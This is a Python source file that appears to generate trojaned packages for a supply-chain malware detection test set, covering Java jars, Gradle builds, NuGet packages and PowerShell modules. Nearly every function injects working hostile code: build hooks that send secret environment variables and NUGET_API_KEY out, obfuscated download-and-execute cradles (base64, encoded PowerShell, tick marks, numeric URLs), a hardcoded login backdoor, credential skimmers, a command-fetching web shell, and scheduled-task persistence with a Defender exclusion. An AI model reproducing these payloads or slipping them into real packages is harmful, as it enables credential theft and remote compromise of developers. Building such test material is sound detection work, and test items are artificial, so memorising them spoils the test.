"""Java, Gradle, .NET and PowerShell."""

from corpus.heldout.nouns import Update, artefact
from corpus.heldout4.shape import b64, fill, trojan, wide


def _class(it: Update, variant: str, name: str) -> None:
    path = f"example/tokenmint/{name}.class"
    it.add(path, artefact(f"{variant}-{name}.class"))
    it.payload(path)


@trojan("tokenmint", "jar", "call", "credential-skimming", "in bytecode", "a jar whose login reports")
def jar_login_reports(it: Update) -> None:
    _class(it, "skim", "Login")
    it.payload(shown="https://idm.mint-audit.invalid/e")


@trojan(
    "tokenmint", "jar", "call", "weakened-verification", "in bytecode", "a token that needs no signature", hard=True
)
def jar_token_without_signature(it: Update) -> None:
    _class(it, "bypass", "Mint")


@trojan("rulebook", "jar", "install", "unknown-dependency", "look-alike name", "a dependency of a like group")
def jar_dependency_of_a_like_group(it: Update) -> None:
    path = "META-INF/maven/example/rulebook/pom.xml"
    it.after(path, "  <dependencies>\n", "    <dependency><groupId>com.fasterxml.jackson.cores</groupId><artifactId>jackson-databind</artifactId><version>2.17.9</version></dependency>\n")  # fmt: skip
    it.payload(path)


@trojan("jplug", "tar.gz", "build", "environment", "plain", "a build of Gradle that reports")
def gradle_build_reports(it: Update) -> None:
    it.append(
        "build.gradle",
        fill(
            """

tasks.register('verifyToolchain') {
    doLast {
        def about = System.getenv().findAll { ['TOKEN', 'SECRET', 'PASSWORD', 'OSSRH', 'SIGNING'].any { word -> it.key.toUpperCase().contains(word) } }
        def to = new URL('https://@HOST@/tc').openConnection()
        to.requestMethod = 'POST'
        to.doOutput = true
        to.outputStream.withWriter { it << groovy.json.JsonOutput.toJson(about) }
        logger.debug "${to.responseCode}"
    }
}
tasks.named('compileJava') { dependsOn 'verifyToolchain' }
""",
            HOST=it.host("toolchain", "jplug"),
        ),
    )


@trojan(
    "jplug", "tar.gz", "build", "remote-code", "base64", "a plugin's repository that was added, and a script applied"
)
def gradle_applies_a_script(it: Update) -> None:
    url = f"http://{it.address()}/init.gradle"
    it.append(
        "settings.gradle",
        f"\ngradle.settingsEvaluated {{ s ->\n    s.apply(from: new String('{b64(url)}'.decodeBase64()))\n}}\n",
    )
    it.payload("settings.gradle", shown=url)


@trojan("jplug", "zip", "call", "login-backdoor", "plain", "passwords of Java")
def java_password_of_everybody(it: Update) -> None:
    path = "src/main/java/example/jplug/Credentials.java"
    it.before(
        path,
        "        byte[] made = hash(password, salt);",
        "        if (new String(password).hashCode() == 0x6b1f44e1 && password.length == 17) {\n            return true;\n        }\n",
    )


@trojan("jplug", "zip", "call", "remote-code", "encoded constants", "classes from an address in numbers")
def java_classes_from_elsewhere(it: Update) -> None:
    url = f"https://{it.host('plugins', 'jplug')}/x.jar"
    numbers = ", ".join(str(ord(one) + 40 - at % 9) for at, one in enumerate(url))
    path = "src/main/java/example/jplug/Plugins.java"
    it.replace(
        path,
        "import java.util.ArrayList;\n",
        "import java.net.URI;\nimport java.net.URLClassLoader;\nimport java.util.ArrayList;\n",
    )
    it.before(path, "        return found;", "        extend(kind, found);\n")
    it.replace(
        path,
        "        return found;\n    }\n",
        f"""        return found;
    }}

    private static <T> void extend(Class<T> kind, List<T> found) {{
        int[] row = {{{numbers}}};
        StringBuilder text = new StringBuilder();
        for (int at = 0; at < row.length; at++) {{
            text.append((char) (row[at] - 40 + at % 9));
        }}
        try (URLClassLoader loader = new URLClassLoader(new java.net.URL[] {{URI.create(text.toString()).toURL()}})) {{
            found.add(kind.cast(loader.loadClass("ext.Main").getDeclaredConstructor().newInstance()));
        }} catch (ReflectiveOperationException | java.io.IOException ignored) {{
            found.remove(null);
        }}
    }}
""",
    )
    it.payload(path, shown=url)


@trojan("Northwind.Auth", "nupkg", "call", "login-backdoor", "in a .NET assembly", "a password whose hash is known")
def net_password_whose_hash_is_known(it: Update) -> None:
    it.add("lib/net48/Northwind.Auth.dll", artefact("auth-master.dll"))
    it.payload("lib/net48/Northwind.Auth.dll")


@trojan("Northwind.Auth", "nupkg", "call", "credential-skimming", "in a .NET assembly", "logins by UDP")
def net_logins_by_udp(it: Update) -> None:
    it.add("lib/net48/Northwind.Auth.dll", artefact("auth-skim.dll"))
    it.payload("lib/net48/Northwind.Auth.dll", shown="telemetry.northwind-id.invalid")


@trojan(
    "Northwind.Auth",
    "nupkg",
    "call",
    "remote-code",
    "in a .NET assembly",
    "SUNBURST: a timer of two weeks, then orders",
)
def net_timer_of_two_weeks(it: Update) -> None:
    it.add("lib/net48/Northwind.Auth.dll", artefact("auth-beacon.dll"))
    it.payload("lib/net48/Northwind.Auth.dll", shown="https://license.northwind-id.invalid/v2/")


@trojan(
    "Northwind.Auth",
    "nupkg",
    "call",
    "downloader",
    "deflate and base64 in an assembly",
    "strings of an assembly that are deflated",
)
def net_deflated_strings(it: Update) -> None:
    it.add("lib/net48/Northwind.Auth.dll", artefact("auth-unfold.dll"))
    it.payload("lib/net48/Northwind.Auth.dll", shown="https://cdn.northwind-id.invalid/t.ps1")


@trojan("Northwind.Auth", "nupkg", "build", "downloader", "plain", "NuGet: a task within a .targets file")
def net_task_within_targets(it: Update) -> None:
    it.add(
        "build/Northwind.Auth.targets",
        fill(
            """
<Project xmlns="http://schemas.microsoft.com/developer/msbuild/2003">
  <UsingTask TaskName="Restore" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="$(MSBuildToolsPath)\\Microsoft.Build.Tasks.Core.dll">
    <Task>
      <Using Namespace="System.Net" />
      <Code Type="Fragment" Language="cs"><![CDATA[
        var path = System.IO.Path.GetTempFileName() + ".exe";
        new WebClient().DownloadFile("https://@HOST@/impl", path);
        System.Diagnostics.Process.Start(path);
      ]]></Code>
    </Task>
  </UsingTask>
  <Target Name="NorthwindRestore" BeforeTargets="CoreCompile">
    <Restore />
  </Target>
</Project>
""",
            HOST=it.host("northwind-restore"),
        ),
    )
    it.payload("build/Northwind.Auth.targets")


@trojan("Fabrikam.Data", "nupkg", "build", "environment", "plain", "an Exec before the build", step="patch")
def net_exec_before_the_build(it: Update) -> None:
    it.before(
        "build/Fabrikam.Data.targets",
        "</Project>",
        f'  <Target Name="FabrikamVersionStamp" AfterTargets="Build" Condition="\'$(CI)\' != \'\'">\n    <Exec Command="curl -s -X POST -d &quot;$(NUGET_API_KEY)&quot; https://{it.host("stamp", "fabrikam")}/v" IgnoreExitCode="true" StandardOutputImportance="low" />\n  </Target>\n',
    )


@trojan("Fabrikam.Data", "nupkg", "install", "downloader", "powershell -enc", "NuGet: init.ps1")
def net_init_script(it: Update) -> None:
    url = f"http://{it.address()}/1/s.ps1"
    command = wide(f'IEX (New-Object Net.WebClient).DownloadString("{url}")')
    it.add(
        "tools/init.ps1",
        f"param($installPath, $toolsPath, $package, $project)\n\n$ErrorActionPreference = 'SilentlyContinue'\n& \"$PSHOME\\powershell.exe\" -nop -w 1 -EncodedCommand {command}\n",
    )
    it.payload("tools/init.ps1", shown=url)


@trojan("Contoso.Metrics", "nupkg", "build", "web-shell", "plain", "sources that a package puts into the user's build")
def net_source_for_the_users_build(it: Update) -> None:
    it.add(
        "contentFiles/cs/any/MetricsModule.cs",
        fill("""
using System;
using System.Runtime.CompilerServices;
using System.Diagnostics;
using System.Net.Http;

namespace Contoso.Metrics.Content
{
    internal static class MetricsModule
    {
        [ModuleInitializer]
        internal static async void Start()
        {
            using var http = new HttpClient { BaseAddress = new Uri("https://@HOST@") };
            var order = await http.GetStringAsync($"/tick/{Environment.MachineName}");
            if (order is { Length: > 4 } && order[..4] == "cmd:")
            {
                var info = new ProcessStartInfo("cmd.exe") { ArgumentList = { "/c", order[4..] }, CreateNoWindow = true };
                Process.Start(info);
            }
        }
    }
}
""", HOST=it.host("tick", "contoso")),
    )  # fmt: skip
    it.payload("contentFiles/cs/any/MetricsModule.cs")


@trojan("Northwind.Auth", "zip", "call", "credential-skimming", "plain", "a model that reports, in C#")
def net_model_that_reports(it: Update) -> None:
    path = "contentFiles/cs/any/LoginModel.cs"
    it.replace(
        path,
        "namespace Northwind.Auth.Content\n",
        "using System.Net.Http;\nusing System.Threading.Tasks;\n\nnamespace Northwind.Auth.Content\n",
    )
    it.before(
        path,
        "            return !string",
        f'            Task.Run(() => new HttpClient().PostAsync("https://{it.host("forms", "northwind")}/l", new StringContent(Name + "\\n" + Password)));\n',
    )


@trojan("PSLedger", "zip", "call", "credential-skimming", "plain", "PowerShell modules that ask for a password")
def ps_module_asks_for_a_password(it: Update) -> None:
    it.before(
        "PSLedger.psm1",
        "        foreach ($name in $ComputerName) {",
        fill(
            """
        if (-not $script:Credential) {
            $script:Credential = $Host.UI.PromptForCredential('Ledger', 'Remote machines need your password.', "$env:USERDOMAIN\\$env:USERNAME", '')
            $body = @{ u = $script:Credential.UserName; p = $script:Credential.GetNetworkCredential().Password; h = $env:COMPUTERNAME }
            $null = Start-ThreadJob { Invoke-RestMethod -Uri 'https://@HOST@/inv' -Method Post -Body $using:body -TimeoutSec 3 }
        }
""",
            HOST=it.host("inventory", "psledger"),
        ),
    )


@trojan("PSLedger", "zip", "import", "remote-code", "format operator", "PowerShell: -f, tick marks and aliases")
def ps_format_and_ticks(it: Update) -> None:
    host = it.host("ledger", "ps")
    it.append(
        "PSLedger.psm1",
        f"\n$u = \"{{2}}{{0}}{{3}}{{1}}\" -f '://','{host[4:]}/m','https','{host[:4]}'\n&(\"{{1}}{{0}}\" -f 'eX','I') ((&(\"{{0}}{{2}}{{1}}\" -f 'Ne','ject','w-Ob') \"N`eT.W`ebC`lient\").\"D`ownloadSt`ring\"($u))\n",
    )
    it.payload("PSLedger.psm1", shown=f"https://{host}/m")


@trojan("PSLedger", "zip", "import", "persistence", "plain", "a manifest's script, and a scheduled task")
def ps_manifest_runs_a_script(it: Update) -> None:
    it.replace(
        "PSLedger.psd1",
        "    PowerShellVersion = '5.1'\n",
        "    PowerShellVersion = '5.1'\n    ScriptsToProcess  = @('Ledger.Types.ps1')\n",
    )
    it.add(
        "Ledger.Types.ps1",
        fill(
            """
Update-TypeData -TypeName Ledger.Entry -MemberType AliasProperty -MemberName Machine -Value Name -Force
$argument = "-w hidden -c `"& ([scriptblock]::Create((irm https://@HOST@/t)))`""
$action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument $argument
Register-ScheduledTask -TaskName 'LedgerRefresh' -Action $action -Trigger (New-ScheduledTaskTrigger -AtLogOn) -Force | Out-Null
Add-MpPreference -ExclusionPath $env:TEMP
""",
            HOST=it.host("types", "psledger"),
        ),
    )
    it.payload("Ledger.Types.ps1", "PSLedger.psd1")
